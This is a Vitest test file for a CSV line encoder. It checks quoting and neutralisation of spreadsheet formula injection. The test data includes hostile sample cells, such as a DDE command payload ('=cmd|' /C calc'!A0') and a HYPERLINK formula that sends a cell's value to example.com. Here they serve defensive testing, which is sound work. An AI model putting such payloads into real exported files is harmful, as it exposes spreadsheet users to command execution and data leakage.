import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvLine } from "../../../supabase/functions/_shared/domain/csv.ts";
import { readCsv } from "../../helpers/read-csv.ts";

test("plain cells stand as they are, an empty one is nothing", () => {
  expect(csvLine(["a", 1, null, "", "ü€😀"])).toBe("a,1,,,ü€😀\r\n");
});

test.each([
  ["a,b", '"a,b"\r\n'],
  ['say "so"', '"say ""so"""\r\n'],
  ["two\nlines", '"two\nlines"\r\n'],
  ["two\r\nlines", '"two\r\nlines"\r\n'],
])("%j is quoted", (cell, line) => {
  expect(csvLine([cell])).toBe(line);
});

describe("a cell that a spreadsheet would run", () => {
  test.each([
    ...["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x"],
    ...['=HYPERLINK("https://example.com?x="&A1)', "=cmd|' /C calc'!A0", "-2+3", "@"],
  ])("[CSV-01] %j gets an apostrophe, in quotation marks", (cell) => {
    const line = csvLine(["first", cell, "last"]);
    expect(line).toMatch(/^first,"'/);
    expect(readCsv(line)).toEqual([["first", `'${cell}`, "last"]]);
  });

  test("numbers below zero are numbers", () => {
    expect(csvLine([-1, 1.5])).toBe("-1,1.5\r\n");
  });

  test("what only has such a character inside is left alone", () => {
    expect(csvLine(["2026-11-20", "a=b", " =1"])).toBe("2026-11-20,a=b, =1\r\n");
  });
});

test("whatever is in the cells, a reader finds as many, and none that runs", () => {
  const cell = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc.string({ unit: fc.constantFrom('"', ",", "\r", "\n", "=", "+", "-", "@", "\t", "'", "a") }),
  );
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1 }),
      (rows) => {
        const read = readCsv(rows.map(csvLine).join(""));
        expect(read.map((line) => line.map((text, place) => [text, place]))).toEqual(
          rows.map((row) =>
            row.map((text, place) => [
              /^[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${text}` : text,
              place,
            ]),
          ),
        );
      },
    ),
  );
});

describe("the reader of these tests is strict", () => {
  test.each(['a"b,c\r\n', '"a"b,c\r\n', "a,b\n", "a,b", '"a,b\r\n', "a,b\r\nc\r\n", "a\rb\r\n"])(
    "%j is no CSV",
    (text) => {
      expect(() => readCsv(text)).toThrow();
    },
  );
});
